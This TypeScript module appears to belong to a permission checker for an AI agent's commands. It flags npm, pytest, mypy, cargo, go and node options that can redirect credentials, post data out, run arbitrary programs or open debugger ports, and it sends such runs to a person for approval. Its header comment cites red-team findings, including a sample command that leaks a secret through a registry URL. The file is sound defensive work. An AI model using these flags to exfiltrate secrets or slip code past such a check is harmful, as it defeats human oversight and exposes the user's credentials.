import { maxTier } from '../../../shared/tiers.js';
import type { Outcome } from './outcome.js';

/**
 * Options that turn an allowed runner into something else, whatever its allow rule says (red team,
 * session 31): npm's own settings redirect where it connects and whose credentials it sends
 * (`npm outdated --registry=https://host/SECRET` leaves the machine from a command that only
 * queries) or what runs in place of the project's script (`--script-shell`, `--node-options`);
 * pytest empties the folder `--basetemp` names and `--pastebin` posts the run to bpa.st (`-o
 * addopts=…` says either); cargo's `--config` sets a compiler wrapper inline and `-Z` unlocks
 * more; go's `-toolexec` and `-vettool` run a program of the agent's; node's `--inspect` opens a
 * port through which anyone who reaches it runs code. Each makes the run a person's call (T2, a
 * floor). Options after `--` belong to the script or the tests, not to the runner.
 *
 * What the project's own files hand these runners (its tests, conftest.py, pytest.ini, Makefile,
 * build.rs) is code the agent may have written: an allowed runner runs it with the user's
 * permissions, by design (README, "Threat model in brief"); this only keeps an option from doing it
 * unseen.
 */
interface Runner {
  /** Whether the argv (program and arguments) is this runner. */
  readonly runs: (program: string, argv: readonly string[]) => boolean;
  /** The option a token spells (with the argument after it) that this runner must not take unasked, or undefined. */
  readonly risky: (token: string, next: string | undefined) => string | undefined;
  readonly why: string;
  /** argparse's `@FILE`: the runner reads more arguments from FILE, which ORACLE does not see (review, session 37). */
  readonly fromFile?: boolean;
}

/** A token's long-option name (`--name=…` or, where the runner reads one dash so, `-name=…`), without dashes. */
function longName(token: string, oneDash: boolean): string | undefined {
  const match = (oneDash ? /^--?([^=-][^=]*)/u : /^--([^=-][^=]*)/u).exec(token);
  return match?.[1];
}

/**
 * npm (nopt): `--name`, a unique prefix of it, and `-name` with one dash all name the long option;
 * `-reg` is its shorthand for --registry and `-C` for --prefix, also inside a bundle (`-gC`).
 * Every reading a token may have counts.
 */
const NPM_RISKY = ['registry', 'proxy', 'https-proxy', 'noproxy', 'userconfig', 'globalconfig', 'prefix', 'script-shell', 'node-options', 'cafile', 'ca', 'cert', 'key', 'strict-ssl', 'cache', '_auth', 'otp'];
const NPM_SHORTHANDS: Readonly<Record<string, string>> = { reg: 'registry', C: 'prefix' };

function npmRisky(token: string): string | undefined {
  const name = longName(token, true);
  if (name === undefined) return undefined;
  // `--@scope:registry=…`, `--//host/:_authToken=…`: a scope's registry, a host's credential.
  if (name.startsWith('@') || name.startsWith('//')) return `--${name}`;
  const short = NPM_SHORTHANDS[name];
  if (short !== undefined) return `--${short}`;
  // `--no-strict-ssl` sets the option too (to false).
  for (const said of name.startsWith('no-') ? [name, name.slice(3)] : [name]) {
    if (said.length < 2) continue;
    const long = NPM_RISKY.find((option) => option.startsWith(said));
    if (long !== undefined) return `--${long}`;
  }
  // A single-dash bundle of shorthands.
  if (!token.startsWith('--')) {
    const letters = Array.from(name).map((c) => NPM_SHORTHANDS[c]).find((o) => o !== undefined);
    if (letters !== undefined) return `--${letters}`;
  }
  return undefined;
}

/** pytest's short options that take a value: what follows one in a bundle is that value. */
const PYTEST_VALUED = new Set(['k', 'm', 'p', 'c', 'W', 'r', 'n', 'o']);

/**
 * argparse: a long option or a prefix of one; `-o` (--override-ini) alone, with its value, or in a
 * bundle (`-xo`); `-p NAME` imports the module NAME (`-p antigravity` opens a web browser), while
 * `-p no:NAME` only turns a plugin off.
 */
function pytestRisky(token: string, next: string | undefined): string | undefined {
  if (!token.startsWith('--')) {
    for (let i = 1; i < token.length; i++) {
      const c = token.charAt(i);
      if (c === 'o') return '-o';
      if (c === 'p') {
        const plugin = i + 1 < token.length ? token.slice(i + 1) : (next ?? '');
        return plugin.startsWith('no:') ? undefined : '-p';
      }
      if (PYTEST_VALUED.has(c)) return undefined;
    }
    return undefined;
  }
  const name = longName(token, false);
  if (name === undefined || name.length < 3) return undefined;
  const long = ['basetemp', 'pastebin', 'override-ini'].find((option) => option.startsWith(name));
  return long === undefined ? undefined : `--${long}`;
}

/** clap: `--config` or a prefix of it; `-Z` alone, with its value, or inside a bundle (`-vZ`). */
function cargoRisky(token: string): string | undefined {
  if (!token.startsWith('--')) return /^-[A-Za-z]*Z/u.test(token) ? '-Z' : undefined;
  const name = longName(token, false);
  return name !== undefined && name.length >= 3 && 'config'.startsWith(name) ? '--config' : undefined;
}

/** Go's flag package: one dash or two, never abbreviated. */
function goRisky(token: string): string | undefined {
  const name = longName(token, true);
  if (name === 'toolexec' || name === 'vettool' || name === 'exec') return `-${name}`;
  // The external linker the build runs.
  if ((name === 'ldflags' || name === 'extld') && /extld/u.test(token)) return '-ldflags=-extld';
  return undefined;
}

/** node: the debugger flags, which node takes only in full. */
function nodeRisky(token: string): string | undefined {
  const name = longName(token, false);
  return name !== undefined && /^(?:inspect|inspect-brk|inspect-wait|inspect-port|debug-port)$/u.test(name) ? `--${name}` : undefined;
}

const RUNNERS: readonly Runner[] = [
  // pnpm and yarn read npm's names for these too (a registry, a script shell, node options)
  { runs: (program) => program === 'npm' || program === 'pnpm' || program === 'yarn', risky: npmRisky, why: 'changes where npm connects, whose credentials it sends, or what it runs in place of the script' },
  {
    runs: (program, argv) => program === 'pytest' || ((program === 'python3' || program === 'python') && argv[0] === '-m' && argv[1] === 'pytest'),
    risky: pytestRisky,
    why: 'can make pytest empty a folder before the run (`--basetemp`), post the session to bpa.st (`--pastebin`), say either through `-o addopts=` or an `@FILE` of arguments, or import a module by name (`-p`)',
    fromFile: true,
  },
  {
    runs: (program, argv) => program === 'mypy' || ((program === 'python3' || program === 'python') && argv[0] === '-m' && argv[1] === 'mypy'),
    risky: (token) => {
      const name = longName(token, false);
      return name !== undefined && name.length >= 4 && 'install-types'.startsWith(name) ? '--install-types' : undefined;
    },
    why: 'makes mypy install packages from the network into Python (`--install-types`), or read arguments ORACLE does not see (`@FILE`)',
    fromFile: true,
  },
  { runs: (program) => program === 'cargo', risky: cargoRisky, why: 'sets cargo configuration inline (a compiler wrapper, a build runner, a registry) or unlocks unstable behaviour' },
  { runs: (program) => program === 'go', risky: goRisky, why: 'makes go run a program of its caller’s choosing around the build' },
  { runs: (program) => program === 'node', risky: nodeRisky, why: 'opens a debugger port, through which anyone who reaches it runs code' },
];

/** The first option of `argv` (before `--`) that the runner must not take unasked, or undefined. */
export function riskyRunnerOption(program: string, argv: readonly string[]): { readonly option: string; readonly why: string } | undefined {
  const runner = RUNNERS.find((r) => r.runs(program, argv));
  if (runner === undefined) return undefined;
  const end = argv.indexOf('--');
  const own = end < 0 ? argv : argv.slice(0, end);
  for (const [i, token] of own.entries()) {
    if (runner.fromFile === true && token.startsWith('@')) return { option: token, why: runner.why };
    if (!token.startsWith('-') || token === '-') continue;
    const option = runner.risky(token, own[i + 1]);
    if (option !== undefined) return { option, why: runner.why };
  }
  return undefined;
}

/** An allowed run with such an option: a person's call, saying which option and why. */
export function judgeRunnerOptions(granted: Extract<Outcome, { ok: true }>, program: string, argv: readonly string[]): Outcome {
  const risky = riskyRunnerOption(program, argv);
  if (risky === undefined) return granted;
  const why = `\`${program} … ${risky.option}\` ${risky.why}, so a person decides`;
  return { ...granted, tier: maxTier(granted.tier, 'T2'), floor: maxTier(granted.floor ?? 'T0', 'T2'), reasons: [...granted.reasons, why] };
}
